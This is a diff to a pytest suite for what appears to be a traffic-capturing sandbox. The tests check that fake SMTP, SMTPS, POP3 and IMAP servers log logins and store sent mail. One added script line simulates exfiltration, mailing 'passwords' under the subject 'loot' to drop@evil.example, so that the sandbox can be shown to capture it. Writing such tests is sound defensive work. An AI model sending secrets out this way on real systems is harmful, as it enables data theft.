@@ -64,7 +64,36 @@ while chunk := s.recv(4096):
     got += chunk
 open("silent.bin", "wb").write(got)
 '
+python3 -c '
+import smtplib
+with smtplib.SMTP("mx.example", 25, timeout=15) as s:
+    s.login("bot", "hunter2")
+    s.sendmail("bot@victim.example", ["drop@evil.example"], MAIL)
+' 2> smtp.err; echo $? > smtp.rc
+python3 -c '
+import smtplib, ssl
+with smtplib.SMTP_SSL("smtps.example", 465, timeout=15, context=ssl.create_default_context()) as s:
+    s.sendmail("a@b.example", ["c@d.example"], b"Subject: over tls\r\n\r\nhi\r\n")
+' ; echo $? > smtps.rc
+python3 -c '
+import poplib
+p = poplib.POP3("pop.example", 110, timeout=15)
+p.user("popuser")
+p.pass_("pop pass")
+open("pop3.stat", "w").write(repr(p.stat()))
+p.quit()
+' ; echo $? > pop3.rc
+python3 -c '
+import imaplib
+m = imaplib.IMAP4("imap.example", 143, timeout=15)
+m.login("imapuser", "imap pass")
+open("imap.select", "w").write(repr(m.select("INBOX")))
+m.logout()
+' ; echo $? > imap.rc
 """
+MAIL = b"From: bot@victim.example\r\nTo: drop@evil.example\r\nSubject: loot\r\n\r\npasswords\r\n"
+SCRIPT = SCRIPT.replace("MAIL", 'b"' + MAIL.decode().replace("\r\n", "\\r\\n") + '"')  # inside sh's '...'
+
 
 
 @pytest.fixture(scope="module")
@@ -74,7 +103,7 @@ def run(tmp_path_factory):
     state, bodies, keylog, pcap = work / "state", work / "bodies", work / "keys.log", work / "capture.pcap"
     config = work / "sandbox.toml"
     config.write_text(f'[queue]\nbackend = "{lab.BACKEND}"\n[tls]\nstate_dir = "{state}"\nkeylog = "{keylog}"\n'
-                      f'[http]\nbodies_dir = "{bodies}"\n')
+                      f'[http]\nbodies_dir = "{bodies}"\n[server_first]\nmail_dir = "{work / "mail"}"\n')
     (work / "other-ca.pem").write_bytes(certs.ensure_ca(work / "other").pem)  # a CA curl trusts instead
     env = dict(os.environ, PYTHONPATH=str(REPO), D=str(work))
     env.pop("SUDO_UID", None)
@@ -216,3 +245,43 @@ def test_a_client_hello_without_sni_gets_a_leaf_for_the_address_it_asked_for(run
 def test_a_silent_client_on_a_port_without_a_server_first_protocol_gets_the_echo(run):
     work, _ = run
     assert (work / "silent.bin").read_bytes() == b"late words"
+
+
+def records_of(records, event: str) -> list[dict]:
+    return [r for r in records if r.get("event") == event]
+
+
+def test_smtplib_logs_in_and_its_mail_is_stored_and_logged(run):
+    work, records = run
+    assert rc(work, "smtp") == 0, (work / "smtp.err").read_text()
+    auth = records_of(records, "smtp_auth")
+    assert auth and auth[0]["user"] == "bot" and auth[0]["password"] == "hunter2", records
+    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "bot@victim.example"]
+    assert mail and mail[0]["rcpt_to"] == ["drop@evil.example"] and ["Subject", "loot"] in mail[0]["headers"]
+    assert mail[0]["original_destination"].endswith(":25") and mail[0]["v"] >= 1
+    stored = (work / "mail" / (mail[0]["sha256"] + ".eml")).read_bytes()
+    assert mail[0]["saved"] == str(work / "mail" / (mail[0]["sha256"] + ".eml"))
+    assert stored.replace(b"\r\n", b"\n") == MAIL.replace(b"\r\n", b"\n")
+
+
+def test_smtp_over_implicit_tls_on_465_is_smtp_inside(run):
+    work, records = run
+    assert rc(work, "smtps") == 0
+    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "a@b.example"]
+    assert mail and mail[0]["original_destination"].endswith(":465")
+    assert tls_record(records, "smtps.example")["result"] == "ok"
+
+
+def test_pop3_login_is_logged_and_the_mailbox_is_empty(run):
+    work, records = run
+    assert rc(work, "pop3") == 0 and (work / "pop3.stat").read_text() == "(0, 0)"
+    login = records_of(records, "pop3")
+    assert login and login[0]["user"] == "popuser" and login[0]["password"] == "pop pass"
+    assert login[0]["original_destination"].endswith(":110")
+
+
+def test_imap_login_is_logged_and_the_inbox_is_empty(run):
+    work, records = run
+    assert rc(work, "imap") == 0 and (work / "imap.select").read_text() == "('OK', [b'0'])"
+    login = records_of(records, "imap")
+    assert login and login[0]["user"] == "imapuser" and login[0]["password"] == "imap pass"
